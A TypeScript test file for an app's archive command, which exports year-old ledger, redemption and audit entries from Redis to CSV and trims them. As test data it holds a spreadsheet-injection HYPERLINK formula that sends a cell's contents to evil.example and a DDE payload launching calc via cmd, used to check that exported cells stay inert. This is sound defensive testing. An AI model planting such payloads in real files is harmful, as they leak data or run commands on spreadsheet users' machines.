import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { chargesPage } from '../../src/accounts/history.ts';
import { readLedger } from '../../src/accounts/ledger.ts';
import { archive, ARCHIVE_FILES, ArchiveBusyError, type ArchiveOptions } from '../../src/archive/archive.ts';
import { readCsv } from '../../src/shared/csv.ts';
import { formulaCells } from '../support/spreadsheet.ts';
import { processEnv } from '../../src/config.ts';
import { keys } from '../../src/store/keys.ts';
import { seedLedger, type SeededCall } from '../../scripts/lib/carrier-statements.ts';
import { jsonRequest, startTestApp, type TestApp } from '../support/harness.ts';
import { activeMember, type ActiveMember } from '../support/member.ts';
import { codeBoughtByPhone, createMerchant, merchantPost, type TestMerchant } from '../support/payments.ts';

const PIN = '2468';
const DAY = 86_400_000;
/** Comfortably more than LEDGER_ONLINE_MONTHS (13) whole months back. */
const LONG_AGO = 16 * 31 * DAY;

/** The rows of one file of every run in the archive folder, header left out. */
async function archivedRows(outDir: string, file: string): Promise<string[][]> {
  const rows: string[][] = [];
  for (const run of readdirSync(outDir).sort()) {
    let header = true;
    for await (const row of readCsv(join(outDir, run, file))) {
      if (!header) rows.push(row);
      header = false;
    }
  }
  return rows;
}

/** A merchant's order ID that opens as a formula if written raw (OWASP's CSV injection examples), with a comma, quotes and a line break. */
const EVIL_ORDER_ID = '=HYPERLINK("http://evil.example/?"&A1,"order, with ""quotes""")\nand a line break';

/** A code bought by phone and redeemed in full at the shop, at the app's clock. */
async function redeemedCode(app: TestApp, member: ActiveMember, shop: TestMerchant): Promise<string> {
  const code = await codeBoughtByPhone(app, member, PIN, '1');
  const redeemed = await jsonRequest(app, 'POST', '/api/merchant/redemptions', { code, amount: 500, orderId: EVIL_ORDER_ID }, merchantPost(shop));
  expect(redeemed.status, JSON.stringify(redeemed.body)).to.equal(201);
  return redeemed.body.redemptionId as string;
}

/** Charges through the real charge script (charge-approval.lua, which includes charge.lua): `count` calls a minute apart. */
const charges = (memberId: string, count: number, at: number, tag: string): SeededCall[] =>
  Array.from({ length: count }, (_, i) => ({ memberId, callSid: `CA${tag}${String(i).padStart(8, '0')}`, from: '+819012345678', at: at + i * 60_000, charges: [{ kind: 'renewal' as const, amount: 300 }] }));

describe('archiving what is older than the online window (npm run archive): exported to CSV, then trimmed', function () {
  this.timeout(120_000);
  let app: TestApp;
  let outDir: string;
  let now: number;
  const options = (extra: Partial<ArchiveOptions> = {}): ArchiveOptions => ({ outDir, now, onlineMonths: 13, voidWindowHours: app.config.voidWindowHours, ...extra });

  beforeEach(async () => {
    app = await startTestApp();
    outDir = mkdtempSync(join(tmpdir(), 'dialpass-archive-'));
    // Today is sixteen months after the app's start: codes bought at the start expire in Redis
    // time, so the past has to be the real present and the present a clock moved forward.
    now = app.clock.now + LONG_AGO;
  });
  afterEach(async () => {
    await app.close();
    rmSync(outDir, { recursive: true, force: true });
  });

  /** Sixteen months ago a member activated, bought a code and spent it; today another did the same, and the first renewed. */
  async function yearsOfActivity() {
    const shop = await createMerchant(app, "@SUM(1+1)*cmd|' /C calc'!A0 Café");
    const early = await activeMember(app, { pin: PIN });
    const oldRedemption = await redeemedCode(app, early, shop);
    app.clock.now = now;
    const recent = await activeMember(app, { pin: PIN });
    const newRedemption = await redeemedCode(app, recent, shop);
    await seedLedger(app.redis, app.config, charges(early.provisionalId, 1, now, 'renew'));
    return { shop, early, recent, oldRedemption, newRedemption };
  }

  it('entries from before the window go to ledger.csv, redemptions.csv and audit.csv and leave Redis; this year’s stay where they were', async () => {
    const { shop, early, recent, oldRedemption, newRedemption } = await yearsOfActivity();
    const earlyLedger = await readLedger(app.redis, early.provisionalId);
    const recentLedger = await readLedger(app.redis, recent.provisionalId);
    const oldEntries = earlyLedger.filter((e) => e.at < now - 365 * DAY);
    expect(oldEntries.map((e) => e.kind)).to.deep.equal(['activation', 'code_purchase']);
    const auditBefore = await app.redis.xrange(keys.opsAudit(), '-', '+');
    const oldAudit = auditBefore.filter(([, f]) => Number(f[f.indexOf('at') + 1]) < now - 365 * DAY);
    expect(oldAudit.length, 'the early member’s activation, purchase and redemption were audited').to.be.at.least(3);

    const report = await archive(app.redis, options());

    expect(report.exported).to.deep.equal({ ledger: 2, redemptions: 1, audit: oldAudit.length });
    expect(report.trimmed).to.deep.equal(report.exported);
    const ledgerRows = await archivedRows(outDir, ARCHIVE_FILES.ledger);
    expect(ledgerRows.map((r) => [r[0], r[1], Number(r[3]), r[4], Number(r[6])])).to.deep.equal(oldEntries.map((e) => [early.provisionalId, e.id, e.at, e.kind, e.amount]));
    expect(await readLedger(app.redis, early.provisionalId), 'only this year’s renewal stays online').to.deep.equal(earlyLedger.slice(2));
    expect(await readLedger(app.redis, recent.provisionalId)).to.deep.equal(recentLedger);

    const [redemptionRow, ...moreRedemptions] = await archivedRows(outDir, ARCHIVE_FILES.redemptions);
    expect(moreRedemptions).to.have.length(0);
    expect(redemptionRow!.slice(0, 2)).to.deep.equal([shop.merchantId, oldRedemption]);
    expect(redemptionRow![7], 'a merchant’s order ID survives the CSV exactly').to.equal(EVIL_ORDER_ID);
    for (const file of Object.values(ARCHIVE_FILES)) {
      for (const run of readdirSync(outDir)) {
        const text = readFileSync(join(outDir, run, file), 'utf8');
        expect(formulaCells(text), `${file}: no cell opens as a formula in a spreadsheet`).to.deep.equal([]);
      }
    }
    const auditText = readdirSync(outDir).map((run) => readFileSync(join(outDir, run, ARCHIVE_FILES.audit), 'utf8')).join('');
    expect(auditText, 'the merchant’s name is in the audit file, quoted as text').to.include(`"'@SUM(1+1)*cmd|' /C calc'!A0 Café"`);
    expect(await app.redis.hkeys(keys.merchantRedemptions(shop.merchantId))).to.deep.equal([newRedemption]);
    expect(await app.redis.zrangebyscore(keys.merchantRedemptionOrder(shop.merchantId), '-inf', '+inf')).to.deep.equal([newRedemption]);

    expect((await archivedRows(outDir, ARCHIVE_FILES.audit)).map((r) => r[0])).to.deep.equal(oldAudit.map(([id]) => id));
    expect((await app.redis.xrange(keys.opsAudit(), '-', '+')).map(([id]) => id)).to.deep.equal(auditBefore.slice(oldAudit.length).map(([id]) => id));

    const login = await jsonRequest(app, 'POST', '/api/login', { formalId: early.formalId, password: early.password });
    const cookie = login.headers.get('set-cookie')!.split(';')[0]!;
    const history = await fetch(`${app.url}/service`, { headers: { Cookie: cookie } }).then((r) => r.text());
    expect(history, 'the member is told where the older charges went').to.match(/data-testid="charges-archived"[^>]*>これより前の 2 件/);
    expect(history.match(/data-testid="charge"/g), 'this year’s renewal is still listed').to.have.length(1);
  });

  it('a charge made between the export and the trim is not lost: only the exported head is trimmed', async () => {
    const memberId = '77700000001';
    await seedLedger(app.redis, app.config, charges(memberId, 2_000, now - LONG_AGO, 'old'));
    let during: SeededCall[] = [];
    const report = await archive(app.redis, options({
      onExported: async () => {
        during = charges(memberId, 25, now, 'during');
        await seedLedger(app.redis, app.config, during);
      },
    }));
    expect(report.exported.ledger).to.equal(2_000);
    expect(report.trimmed.ledger).to.equal(2_000);
    expect(report.headChanged).to.deep.equal([]);
    expect((await readLedger(app.redis, memberId)).map((e) => e.callSid)).to.deep.equal(during.map((c) => c.callSid));
    expect(await app.redis.get(keys.memberLedgerArchived(memberId)), 'the history’s cursors stay stable').to.equal('2000');
    expect((await archivedRows(outDir, ARCHIVE_FILES.ledger)).map((r) => r[1])).to.deep.equal(charges(memberId, 2_000, 0, 'old').map((c) => `${memberId}/${c.callSid}/renewal-0`));
  });

  it('a ledger whose head changed after the export is left alone and reported, not trimmed blindly', async () => {
    const memberId = '77700000002';
    await seedLedger(app.redis, app.config, charges(memberId, 3, now - LONG_AGO, 'head'));
    const report = await archive(app.redis, options({
      onExported: async () => void (await app.redis.lpop(keys.memberLedger(memberId))),
    }));
    expect(report.headChanged).to.deep.equal([memberId]);
    expect(report.trimmed.ledger).to.equal(0);
    expect(await app.redis.llen(keys.memberLedger(memberId))).to.equal(2);
  });

  it('a dry run reports what would go and changes nothing, not even a file', async () => {
    const { shop, early } = await yearsOfActivity();
    const before = await Promise.all([app.redis.lrange(keys.memberLedger(early.provisionalId), 0, -1), app.redis.hgetall(keys.merchantRedemptions(shop.merchantId)), app.redis.xlen(keys.opsAudit())]);
    const report = await archive(app.redis, options({ dryRun: true }));
    expect(report.exported.ledger).to.equal(2);
    expect(report.exported.redemptions).to.equal(1);
    expect(report.trimmed).to.deep.equal({ ledger: 0, redemptions: 0, audit: 0 });
    expect(await Promise.all([app.redis.lrange(keys.memberLedger(early.provisionalId), 0, -1), app.redis.hgetall(keys.merchantRedemptions(shop.merchantId)), app.redis.xlen(keys.opsAudit())])).to.deep.equal(before);
    expect(readdirSync(outDir)).to.deep.equal([]);
  });

  it('a second run exports nothing new and leaves no new files', async () => {
    await yearsOfActivity();
    const first = await archive(app.redis, options());
    expect(first.exported.ledger).to.equal(2);
    const second = await archive(app.redis, options());
    expect(second.exported).to.deep.equal({ ledger: 0, redemptions: 0, audit: 0 });
    expect(second.runDir).to.equal(undefined);
    expect(readdirSync(outDir)).to.have.length(1);
  });

  it('after a crash between the export and the trim, the next run finishes that trim first: every entry is archived exactly once', async () => {
    const memberId = '77700000003';
    await seedLedger(app.redis, app.config, charges(memberId, 40, now - LONG_AGO, 'crash'));
    const crashed = await archive(app.redis, options({ onExported: () => Promise.reject(new Error('killed')) })).then(
      () => expect.fail('the run was meant to stop'),
      (error: Error) => error,
    );
    expect(crashed.message).to.equal('killed');
    expect(await app.redis.llen(keys.memberLedger(memberId)), 'nothing trimmed yet').to.equal(40);
    const rerun = await archive(app.redis, options());
    expect(rerun.resumed.map((r) => r.trimmed.ledger)).to.deep.equal([40]);
    expect(rerun.exported.ledger).to.equal(0);
    expect(await app.redis.llen(keys.memberLedger(memberId))).to.equal(0);
    const ids = (await archivedRows(outDir, ARCHIVE_FILES.ledger)).map((r) => r[1]);
    expect(ids).to.have.length(40);
    expect(new Set(ids).size).to.equal(40);
  });

  it('the command line (npm run archive) counts on --dry-run, archives with --out, and refuses a malformed --before', async () => {
    const memberId = '77700000004';
    await seedLedger(app.redis, app.config, charges(memberId, 3, Date.now() - LONG_AGO, 'cli'));
    const env = { ...processEnv(), REDIS_URL: app.config.redis.url, REDIS_KEY_PREFIX: `${app.config.redis.keyPrefix}${app.keyPrefix}` };
    const run = (...args: string[]) => spawnSync(process.execPath, ['--import', 'tsx', 'scripts/archive.ts', ...args], { env, encoding: 'utf8' });
    const dry = run('--dry-run');
    expect(dry.status, dry.stderr).to.equal(0);
    expect(dry.stdout).to.match(/would export\s+ledger 3, redemptions 0/).and.to.include('nothing written, nothing trimmed');
    expect(await app.redis.llen(keys.memberLedger(memberId))).to.equal(3);
    const real = run('--out', outDir);
    expect(real.status, real.stderr).to.equal(0);
    expect(real.stdout).to.match(/trimmed\s+ledger 3/);
    expect(await app.redis.llen(keys.memberLedger(memberId))).to.equal(0);
    expect(await archivedRows(outDir, ARCHIVE_FILES.ledger)).to.have.length(3);
    const bad = run('--out', outDir, '--before', '2025-13');
    expect(bad.status).to.equal(2);
    expect(bad.stderr).to.include('is not a month such as');
  });

  it('a member paging back through their charges while the archive runs sees the same entries at the same places, then the archive line', async () => {
    const memberId = '77700000005';
    await seedLedger(app.redis, app.config, charges(memberId, 10, now - LONG_AGO, 'page-old'));
    await seedLedger(app.redis, app.config, charges(memberId, 30, now, 'page-new'));
    const deps = { config: app.config, redis: app.redis, now: () => now };
    const first = await chargesPage(deps, memberId, undefined);
    const secondBefore = await chargesPage(deps, memberId, first.next);
    expect(first.next).to.equal('20');
    await archive(app.redis, options());
    const secondAfter = await chargesPage(deps, memberId, first.next);
    expect(secondAfter.items.map((c) => [c.index, c.id]), 'the cursor taken before the archive still points at the same entries').to.deep.equal(secondBefore.items.filter((c) => c.index >= 10).map((c) => [c.index, c.id]));
    expect(secondAfter.next).to.equal(undefined);
    expect(secondAfter.archived).to.equal(10);
    expect((await chargesPage(deps, memberId, undefined)).items.map((c) => c.index)).to.deep.equal(first.items.map((c) => c.index));
  });

  it('a second archive started while one runs is refused, so nothing is exported twice', async () => {
    const memberId = '77700000006';
    await seedLedger(app.redis, app.config, charges(memberId, 5, now - LONG_AGO, 'lock'));
    let refused: unknown;
    const first = await archive(app.redis, options({
      onExported: async () => {
        refused = await archive(app.redis, options()).then(() => undefined, (error: unknown) => error);
      },
    }));
    expect(refused).to.be.instanceOf(ArchiveBusyError);
    expect(first.trimmed.ledger).to.equal(5);
    expect(await archivedRows(outDir, ARCHIVE_FILES.ledger)).to.have.length(5);
    expect(await app.redis.exists(keys.archiveLock()), 'the lock goes with the run').to.equal(0);
  });
});
